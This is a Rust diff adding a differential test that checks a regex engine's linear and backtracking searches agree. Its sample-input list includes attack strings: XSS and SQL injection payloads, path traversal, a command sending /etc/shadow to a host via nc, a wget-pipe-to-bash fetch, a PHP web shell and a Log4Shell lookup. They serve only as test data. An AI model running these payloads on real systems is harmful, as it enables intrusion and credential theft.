@@ -2,7 +2,8 @@
 
 use std::sync::Arc;
 
-use super::Pattern;
+use super::backtrack::{Backtrack, Outcome};
+use super::{Compiled, Pattern, compile, parse};
 
 #[test]
 fn a_text_is_compiled_once() {
@@ -75,5 +76,62 @@ fn what_cannot_be_compiled_says_why() {
     for (text, reason) in rows {
         let error = Pattern::shared(text).expect_err(text);
         assert!(error.reason.contains(reason), "{text}: {}", error.reason);
+    }
+}
+
+/// Values of many kinds, for any pattern.
+const VALUES: &[&str] = &[
+    "",
+    "a",
+    "hello world, this is plain text 12345",
+    "/etc/passwd",
+    "../../../../etc/passwd\0",
+    "<script>alert(document.cookie)</script>",
+    "<img src=x onerror=alert(1)>",
+    "\"><svg/onload=prompt`1`>",
+    "javascript:alert(String.fromCharCode(88))",
+    "' or 1=1-- -",
+    "1 union all select null,version(),concat(0x41,0x42) from information_schema.tables",
+    "x'; drop table users; --",
+    "sleep(5) or benchmark(1000,md5(1))",
+    "; cat /etc/shadow | nc 10.0.0.1 4444",
+    "$(wget http://example.test/x.sh -O- | bash)",
+    "<?php system($_GET['c']); ?>",
+    "${jndi:ldap://example.test/a}",
+    "java.lang.Runtime.getRuntime().exec('id')",
+    "http://user:pass@10.1.2.3:8080/path?query=1#fragment",
+    "multipart/form-data; boundary=----WebKitFormBoundary; charset=utf-8",
+    "GET /index.php?id=1&x=%27 HTTP/1.1\r\nSet-Cookie: a=b",
+    "{\"a\":{\"$gt\":\"\"},\"b\":[1,2,3]}",
+    "日本語のテキスト\u{a0}ﬀ",
+    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
+    "0x414243 0b1010 1e10 -1.5",
+    "SELECT/**/pg_sleep(1)\nUNION\tSELECT",
+];
+
+/// Searches in linear time and by backtracking find the same; patterns of the fallback have but one way.
+pub(in crate::engine) fn both_ways_agree(pattern: &[u8]) {
+    let shown = String::from_utf8_lossy(pattern);
+    let parsed = parse::parse(pattern).unwrap_or_else(|error| panic!("{shown}: {error}"));
+    let compiled = compile(pattern).unwrap_or_else(|error| panic!("{shown}: {error}"));
+    // A program past the limit of the fallback is one that it is never asked for.
+    let (Compiled::Linear(regex), Ok(backtrack)) = (&compiled, Backtrack::new(&parsed)) else { return };
+    // Words of the pattern itself come nearer to a match than any list does.
+    let words = pattern.split(|byte| !byte.is_ascii_alphanumeric() && !b" _-".contains(byte));
+    let own = words.filter(|word| word.len() > 3).take(20);
+    for value in VALUES.iter().map(|value| value.as_bytes()).chain(own) {
+        let linear = regex.captures(value).map(|captures| {
+            captures.iter().map(|group| group.map(|group| (group.start(), group.end()))).collect::<Vec<_>>()
+        });
+        match (backtrack.search(value, 0), linear) {
+            (Outcome::Spent, _) | (Outcome::Miss, None) => {}
+            (Outcome::Hit(found), Some(linear)) => {
+                // Groups inside repetitions that took nothing may keep other turns: the match itself is what counts.
+                assert_eq!(found.first(), linear.first(), "{shown} on {:?}", String::from_utf8_lossy(value));
+            }
+            (found, linear) => {
+                panic!("{shown} on {:?}: {found:?}, {linear:?}", String::from_utf8_lossy(value))
+            }
+        }
     }
 }
